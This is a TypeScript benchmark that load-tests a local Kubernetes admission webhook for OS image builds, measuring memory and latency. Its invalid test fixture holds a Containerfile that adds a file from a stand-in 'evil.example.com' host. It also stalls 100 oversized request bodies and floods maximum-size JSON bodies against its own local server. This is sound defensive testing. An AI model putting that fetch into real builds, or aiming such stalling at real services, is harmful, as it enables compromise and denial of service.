/**
 * `npm run bench -- webhook` (after `make build`): the on-cluster-build webhook as it runs in its
 * pod (`node bin/on-cluster-build.js webhook`, the bundle hack/precompile-webhook.mjs makes, the
 * Deployment's NODE_OPTIONS),
 * pinned to one core with taskset, driven from this process pinned to the other:
 * - idle RSS (VmRSS from /proc once it serves);
 * - open-loop load at RATE requests/s for SECONDS (a request is sent on schedule whether or not
 *   earlier ones have answered; latency is measured from the scheduled send, so a stall counts
 *   in full): p50/p99/max, and RSS (VmRSS, VmHWM) after those admissions;
 * - closed-loop throughput with CONCURRENCY requests outstanding;
 * - 100 clients that each declare a 3 MiB body, send 1 MiB and stall: peak RSS (VmHWM), the
 *   server's refusals, and that it still answers afterwards;
 * - the most the server parses at once: rounds of as many maximum-size AdmissionReviews as the
 *   in-flight budget admits (12 MiB / 3 MiB = 4), each a config of the smallest JSON values (the
 *   most objects per byte), sent together: peak RSS (VmHWM), which the memory limit must cover.
 * The server's own time per admission comes from its log lines (`ms`), apart from the
 * client-observed latency, which on a loaded machine includes the load generator's own delays.
 * `WEBHOOK_BENCH_NODE_OPTIONS` replaces the Deployment's NODE_OPTIONS (to try other V8 flags).
 * Mix: 70% valid NodePoolOSConfigs, 20% invalid ones, 10% NodePoolOSBuild status writes by the
 * controller. Keep-alive connections (the kube-apiserver reuses them).
 */
import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
import { mkdtempSync, readFileSync, readlinkSync, rmSync } from 'node:fs';
import * as https from 'node:https';
import { cpus, loadavg, tmpdir } from 'node:os';
import * as path from 'node:path';
import { performance } from 'node:perf_hooks';
import * as tls from 'node:tls';
import { fileURLToPath } from 'node:url';
import { WEBHOOK_NODE_OPTIONS } from '../../resources/webhooks.js';
import { MAX_BODY_BYTES, MAX_BYTES_IN_FLIGHT } from '../../builder/webhook/server.js';

const here = path.dirname(fileURLToPath(import.meta.url));
const root = path.resolve(here, '..', '..', '..');
const RATE = Number(process.env.WEBHOOK_BENCH_RATE ?? 500);
const SECONDS = Number(process.env.WEBHOOK_BENCH_SECONDS ?? 20);
/** The Deployment's NODE_OPTIONS unless WEBHOOK_BENCH_NODE_OPTIONS is set (to try other V8 flags). */
const NODE_OPTIONS = process.env.WEBHOOK_BENCH_NODE_OPTIONS ?? WEBHOOK_NODE_OPTIONS;
const CONCURRENCY = 16;
const THROUGHPUT_SECONDS = 5;
const GROUP = 'on-cluster-build.pkogen.io';
const CONTROLLER = 'system:serviceaccount:openshift-on-cluster-build:on-cluster-build-controller';
const DIGEST = 'sha256:' + 'd'.repeat(64);

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
const mib = (kb: number) => (kb / 1024).toFixed(1);

function procStatus(pid: number): { rssKb: number; hwmKb: number } {
  const s = readFileSync(`/proc/${pid}/status`, 'utf8');
  const kb = (k: string) => Number(new RegExp(`^${k}:\\s+(\\d+)`, 'm').exec(s)?.[1] ?? NaN);
  return { rssKb: kb('VmRSS'), hwmKb: kb('VmHWM') };
}

/**
 * Where the RSS is (/proc/PID/smaps): pages of the node executable itself (clean, file-backed:
 * shared by every process that maps the same file, dropped and re-read under memory pressure),
 * anonymous memory (heap, V8, OpenSSL, buffers: the process's own), and other files (shared
 * libraries).
 */
export function rssParts(pid: number): { exeKb: number; anonKb: number; otherKb: number } {
  const exe = readlinkSync(`/proc/${pid}/exe`);
  let cur = '';
  const parts = { exeKb: 0, anonKb: 0, otherKb: 0 };
  for (const line of readFileSync(`/proc/${pid}/smaps`, 'utf8').split('\n')) {
    const m = /^[0-9a-f]+-[0-9a-f]+ \S+ \S+ \S+ \S+\s*(.*)$/.exec(line);
    if (m) cur = m[1]!;
    else if (line.startsWith('Rss:')) {
      const kb = Number(line.split(/\s+/)[1]);
      if (cur === exe) parts.exeKb += kb;
      else if (cur === '' || cur.startsWith('[')) parts.anonKb += kb;
      else parts.otherKb += kb;
    }
  }
  return parts;
}

function cpuSeconds(pid: number): number {
  const f = readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1]!.split(' ');
  return (Number(f[11]) + Number(f[12])) / 100; // utime + stime, in clock ticks (USER_HZ 100)
}

function config(i: number, valid: boolean): object {
  return {
    apiVersion: `${GROUP}/v1alpha1`,
    kind: 'NodePoolOSConfig',
    metadata: { name: `pool-${i % 50}`, uid: `u-${i}`, generation: 1, resourceVersion: String(i), managedFields: [{ manager: 'kubectl', operation: 'Apply' }] },
    spec: {
      nodePool: { name: `pool-${i % 50}` },
      imageBuilder: { imageBuilderType: 'Job' },
      renderedImagePushSecret: { name: 'push' },
      renderedImagePushSpec: valid ? 'quay.example.com/org/os-images:latest' : 'quay.example.com/org/os-images@sha256:abc',
      containerFile: [
        {
          containerfileArch: 'NoArch',
          content: valid
            ? 'FROM configs AS tools\nRUN dnf install -y make && make -C /src\nFROM configs AS final\nCOPY --from=tools /out/bin /usr/local/bin\nRUN dnf install -y tree htop && dnf clean all\n'
            : 'FROM quay.io/evil/x AS configs\nFROM configs AS final\nADD https://evil.example.com/x /x\n',
        },
      ],
    },
  };
}

function buildStatus(i: number): object {
  return {
    apiVersion: `${GROUP}/v1alpha1`,
    kind: 'NodePoolOSBuild',
    metadata: { name: `pool-${i % 50}-0123456789` },
    spec: {
      nodePoolOSConfig: { name: `pool-${i % 50}` },
      nodePool: { name: `pool-${i % 50}` },
      releaseImage: `quay.io/openshift-release-dev/ocp-release@${DIGEST}`,
      baseOSImage: `quay.io/openshift-release-dev/ocp-v4.0-art-dev@${DIGEST}`,
      renderedImagePushSpec: 'quay.example.com/org/os-images:latest',
    },
    status: {
      conditions: [{ type: 'Building', status: 'True', reason: 'JobRunning', message: 'build Job running', lastTransitionTime: '2026-11-25T00:00:00Z' }],
      builder: { imageBuilderType: 'Job', job: { group: 'batch', resource: 'jobs', namespace: 'ocm-hcp', name: `build-pool-${i % 50}-0123456789` } },
      buildStart: '2026-11-25T00:00:00Z',
    },
  };
}

export function request(i: number): { path: string; body: string } {
  const r = i % 10;
  if (r === 9) {
    const obj = buildStatus(i);
    const review = { apiVersion: 'admission.k8s.io/v1', kind: 'AdmissionReview', request: { uid: `r-${i}`, kind: { group: GROUP, version: 'v1alpha1', kind: 'NodePoolOSBuild' }, subResource: 'status', operation: 'UPDATE', userInfo: { username: CONTROLLER }, object: obj, oldObject: obj } };
    return { path: '/validate/nodepoolosbuilds', body: JSON.stringify(review) };
  }
  const review = { apiVersion: 'admission.k8s.io/v1', kind: 'AdmissionReview', request: { uid: `r-${i}`, kind: { group: GROUP, version: 'v1alpha1', kind: 'NodePoolOSConfig' }, operation: 'CREATE', userInfo: { username: 'kube:admin' }, object: config(i, r < 7) } };
  return { path: '/validate/nodepoolosconfigs', body: JSON.stringify(review) };
}

/** Client-side time from handing the request to Node's https to the end of the answer (ms), per request. */
const sentToAnswer: number[] = [];

function post(agent: https.Agent, ca: string, port: number, r: { path: string; body: string }): Promise<number> {
  const t = performance.now();
  return new Promise((resolve, reject) => {
    const req = https.request({ host: '127.0.0.1', port, path: r.path, method: 'POST', ca, agent, headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(r.body) } }, (res) => {
      res.resume();
      res.on('end', () => {
        sentToAnswer.push(performance.now() - t);
        resolve(res.statusCode ?? 0);
      });
    });
    req.on('error', reject);
    req.end(r.body);
  });
}

/**
 * An AdmissionReview of just under `bytes`, its config's `containerFile` made of `item` repeated
 * (valid JSON; the server parses all of it before its size check refuses it).
 */
export function bigReview(bytes: number, item: unknown): string {
  const one = JSON.stringify(item).length + 1;
  const object = { apiVersion: `${GROUP}/v1alpha1`, kind: 'NodePoolOSConfig', metadata: { name: 'big' }, spec: { nodePool: { name: 'big' }, containerFile: Array.from({ length: Math.floor((bytes - 4096) / one) }, () => item) } };
  return JSON.stringify({ apiVersion: 'admission.k8s.io/v1', kind: 'AdmissionReview', request: { uid: 'big', kind: { group: GROUP, version: 'v1alpha1', kind: 'NodePoolOSConfig' }, operation: 'CREATE', userInfo: { username: 'kube:admin' }, object } });
}

export function pct(sorted: number[], p: number): number {
  return sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))]!;
}

/** The `ms` of every admission log line the server writes (test/bench reads its stderr). */
const serverMs: number[] = [];

async function startServer(dir: string, pin: string[]): Promise<{ child: ChildProcess; port: number }> {
  const child = spawn(pin[0] ?? process.execPath, [...pin.slice(1), ...(pin.length ? [process.execPath] : []), path.join(root, 'bin', 'on-cluster-build.js'), 'webhook', '--port=0', `--tls-cert-file=${dir}/tls.crt`, `--tls-private-key-file=${dir}/tls.key`], {
    cwd: root,
    stdio: ['ignore', 'ignore', 'pipe'],
    // As in its pod: no extra CA bundle, the Deployment's NODE_OPTIONS.
    env: { ...process.env, NODE_EXTRA_CA_CERTS: '', NODE_OPTIONS },
  });
  const port = await new Promise<number>((resolve, reject) => {
    let buf = '';
    const t = setTimeout(() => reject(new Error('webhook did not start within 20 s')), 20_000);
    child.stderr!.on('data', (d: Buffer) => {
      buf += d.toString();
      const m = /"msg":"serving","port":(\d+)/.exec(buf);
      if (m) {
        clearTimeout(t);
        resolve(Number(m[1]));
      }
      if (buf.length > 1 << 20) buf = buf.slice(-4096);
    });
    child.once('exit', (c) => reject(new Error(`webhook exited ${c}: ${buf.slice(-500)}`)));
  });
  let rest = '';
  child.stderr!.removeAllListeners('data');
  child.stderr!.on('data', (d: Buffer) => {
    const lines = (rest + d.toString()).split('\n');
    rest = lines.pop()!;
    for (const l of lines) {
      const m = /"ms":([0-9.]+)/.exec(l);
      if (m) serverMs.push(Number(m[1]));
    }
  });
  return { child, port };
}

export async function bench(): Promise<string> {
  const dir = mkdtempSync(path.join(tmpdir(), 'webhook-bench-'));
  execFileSync('openssl', ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes', '-keyout', `${dir}/tls.key`, '-out', `${dir}/tls.crt`, '-days', '2', '-subj', '/CN=127.0.0.1', '-addext', 'subjectAltName=IP:127.0.0.1'], { stdio: 'pipe' });
  const ca = readFileSync(`${dir}/tls.crt`, 'utf8');
  const pinned = cpus().length >= 2 && (() => { try { execFileSync('taskset', ['-p', '-c', '1', String(process.pid)], { stdio: 'pipe' }); return true; } catch { return false; } })();
  const { child, port } = await startServer(dir, pinned ? ['taskset', '-c', '0'] : []);
  const pid = child.pid!;
  try {
    await sleep(1500);
    const idle = procStatus(pid);
    const idleParts = rssParts(pid);

    // Open loop: request i is due at t0 + i/RATE; its latency counts from then.
    const agent = new https.Agent({ keepAlive: true, maxSockets: 32 });
    // Warm-up: 200 admissions, 32 at a time (opens the keep-alive connections the run uses; JIT).
    for (let i = 0; i < 200; i += 32) await Promise.all(Array.from({ length: 32 }, (_, k) => post(agent, ca, port, request(i + k))));
    const afterWarm = procStatus(pid);
    const total = RATE * SECONDS;
    // Bodies made before the clock starts: the load generator's own work stays off the latency.
    const bodies = Array.from({ length: 500 }, (_, i) => request(i));
    const lat: number[] = [];
    let errors = 0;
    serverMs.length = 0;
    sentToAnswer.length = 0;
    const cpu0 = cpuSeconds(pid);
    const t0 = performance.now();
    const pending: Promise<void>[] = [];
    for (let i = 0; i < total; i++) {
      const due = t0 + (i * 1000) / RATE;
      const wait = due - performance.now();
      if (wait > 1) await sleep(wait);
      const r = bodies[i % bodies.length]!;
      pending.push(
        post(agent, ca, port, r).then(
          (s) => {
            if (s !== 200) errors++;
            lat.push(performance.now() - due);
          },
          () => {
            errors++;
          },
        ),
      );
    }
    await Promise.all(pending);
    const elapsed = (performance.now() - t0) / 1000;
    const cpuUsed = cpuSeconds(pid) - cpu0;
    const loaded = procStatus(pid);
    const loadedParts = rssParts(pid);
    lat.sort((a, b) => a - b);
    const own = serverMs.slice(0, total).sort((a, b) => a - b);
    const sent = sentToAnswer.slice(0, total).sort((a, b) => a - b);

    // Closed loop: CONCURRENCY outstanding for THROUGHPUT_SECONDS.
    let done = 0;
    const tEnd = performance.now() + THROUGHPUT_SECONDS * 1000;
    const tc = performance.now();
    await Promise.all(
      Array.from({ length: CONCURRENCY }, async (_, w) => {
        for (let i = w; performance.now() < tEnd; i += CONCURRENCY) {
          await post(agent, ca, port, bodies[i % bodies.length]!);
          done++;
        }
      }),
    );
    const throughput = done / ((performance.now() - tc) / 1000);
    const afterThroughput = procStatus(pid);
    agent.destroy();

    // 100 stalled 3 MiB bodies.
    const sockets: tls.TLSSocket[] = [];
    const head = `POST /validate/nodepoolosconfigs HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${3 * 1024 * 1024}\r\n\r\n`;
    await Promise.all(
      Array.from({ length: 100 }, () => new Promise<void>((resolve) => {
        const s = tls.connect({ host: '127.0.0.1', port, ca }, () => {
          s.write(head);
          s.write(Buffer.alloc(1024 * 1024, 0x20), () => resolve());
        });
        s.on('error', () => resolve());
        s.on('close', () => resolve());
        s.resume();
        sockets.push(s);
      })),
    );
    await sleep(1000);
    const stalled = procStatus(pid);
    const stalledParts = rssParts(pid);
    for (const s of sockets) s.destroy();
    const agent2 = new https.Agent({ keepAlive: false });
    const stillServes = (await post(agent2, ca, port, request(1))) === 200;

    // The most the server parses at once: 10 rounds per shape of the in-flight budget's worth of
    // maximum-size bodies, sent together.
    const together = Math.max(1, Math.floor(MAX_BYTES_IN_FLIGHT / MAX_BODY_BYTES));
    const bigCodes = new Map<number | string, number>();
    const agent3 = new https.Agent({ keepAlive: true, maxSockets: together });
    for (const item of [[1], { containerfileArch: 'NoArch', content: 'x' }]) {
      const body = bigReview(MAX_BODY_BYTES, item);
      for (let round = 0; round < 10; round++) {
        const codes = await Promise.all(Array.from({ length: together }, () => post(agent3, ca, port, { path: '/validate/nodepoolosconfigs', body }).catch(() => 'error')));
        for (const c of codes) bigCodes.set(c, (bigCodes.get(c) ?? 0) + 1);
      }
    }
    agent3.destroy();
    // A server killed by its heap cap has no /proc entry left: its figures are NaN and it is reported dead.
    const alive = child.exitCode === null && child.signalCode === null;
    const parsed = alive ? procStatus(pid) : { rssKb: NaN, hwmKb: NaN };
    const parsedParts = alive ? rssParts(pid) : { exeKb: NaN, anonKb: NaN, otherKb: NaN };
    const servesAfterBig = alive && (await post(agent2, ca, port, request(1)).catch(() => 0)) === 200;

    const split = (p: { exeKb: number; anonKb: number; otherKb: number }) => `${mib(p.exeKb)} / ${mib(p.anonKb)} / ${mib(p.otherKb)}`;
    const rows = [
      ['idle (serving, no request yet)', `${mib(idle.rssKb)} MiB`],
      ['after 200 warm-up admissions (32 connections open)', `${mib(afterWarm.rssKb)} MiB`],
      [`after ${total.toLocaleString('en-US')} more admissions at ${RATE}/s`, `${mib(loaded.rssKb)} MiB (peak ${mib(loaded.hwmKb)} MiB)`],
      [`after ${CONCURRENCY}-way closed-loop load`, `${mib(afterThroughput.rssKb)} MiB (peak ${mib(afterThroughput.hwmKb)} MiB)`],
      ['with 100 stalled 3 MiB bodies (1 MiB sent each)', `${mib(stalled.rssKb)} MiB (peak ${mib(stalled.hwmKb)} MiB); answers afterwards: ${stillServes ? 'yes' : 'NO'}`],
      [
        `after 20 rounds of ${together} × ${(MAX_BODY_BYTES / 1048576).toFixed(0)} MiB AdmissionReviews at once (\`[1]\` and \`{containerfileArch, content}\` items)`,
        `${mib(parsed.rssKb)} MiB (peak ${mib(parsed.hwmKb)} MiB); answers: ${[...bigCodes].map(([c, n]) => `${n} × ${c}`).join(', ')}; alive and answering afterwards: ${servesAfterBig ? 'yes' : 'NO'}`,
      ],
    ];
    return [
      '## Webhook (on-cluster-build webhook)',
      '',
      `Command: \`make build && npm run bench -- webhook\` (test/bench/webhook.ts; \`WEBHOOK_BENCH_RATE\`, \`WEBHOOK_BENCH_SECONDS\` override ${RATE}/s for ${SECONDS} s). ` +
        `${pinned ? 'Server pinned to core 0 (`taskset -c 0`), load generator to core 1.' : 'Not pinned (taskset or a second core missing).'} ` +
        'Requests: 70% valid NodePoolOSConfig CREATEs (a two-stage Containerfile), 20% invalid ones, 10% NodePoolOSBuild status UPDATEs by the controller; keep-alive HTTPS.',
      '',
      `NODE_OPTIONS: \`${NODE_OPTIONS || '(none)'}\`${NODE_OPTIONS === WEBHOOK_NODE_OPTIONS ? " (the Deployment's)" : ' (WEBHOOK_BENCH_NODE_OPTIONS)'}.`,
      '',
      '| RSS | |',
      '|---|---:|',
      ...rows.map(([a, b]) => `| ${a} | ${b} |`),
      '',
      '| RSS by kind (MiB): node executable\'s pages / anonymous / other files | |',
      '|---|---:|',
      `| idle | ${split(idleParts)} |`,
      `| after the open-loop run | ${split(loadedParts)} |`,
      `| with the stalled bodies | ${split(stalledParts)} |`,
      `| after the maximum-size bodies | ${split(parsedParts)} |`,
      '',
      `| open loop, ${RATE}/s for ${SECONDS} s | |`,
      '|---|---:|',
      `| requests (errors) | ${total} (${errors}) |`,
      `| achieved rate | ${(total / elapsed).toFixed(0)}/s |`,
      `| latency p50 / p99 / max (from the scheduled send) | ${pct(lat, 50).toFixed(2)} / ${pct(lat, 99).toFixed(2)} / ${lat[lat.length - 1]!.toFixed(2)} ms |`,
      `| latency from the actual send (what a client without a schedule sees) p50 / p99 / max | ${pct(sent, 50).toFixed(2)} / ${pct(sent, 99).toFixed(2)} / ${sent[sent.length - 1]!.toFixed(2)} ms |`,
      `| server's own time per admission (its log's \`ms\`: headers in → answer ready) p50 / p99 / max | ${pct(own, 50).toFixed(2)} / ${pct(own, 99).toFixed(2)} / ${own[own.length - 1]!.toFixed(2)} ms |`,
      `| server CPU | ${((cpuUsed / elapsed) * 100).toFixed(0)}% of one core (${((cpuUsed / total) * 1e6).toFixed(0)} µs per admission) |`,
      `| closed loop, ${CONCURRENCY} outstanding | ${throughput.toFixed(0)} admissions/s |`,
      `| load average during the run (1 min, 2 cores shared) | ${loadavg()[0]!.toFixed(1)} |`,
      '',
    ].join('\n');
  } finally {
    child.kill('SIGTERM');
    await new Promise((r) => (child.exitCode !== null ? r(undefined) : child.once('exit', r)));
    rmSync(dir, { recursive: true, force: true });
  }
}

// `node dist/test/bench/webhook.js` runs this section alone.
if (process.argv[1] && fileURLToPath(import.meta.url) === path.resolve(process.argv[1])) {
  bench().then((s) => process.stdout.write(`${s}\n`), (e) => {
    process.stderr.write(`${(e as Error).stack}\n`);
    process.exitCode = 1;
  });
}
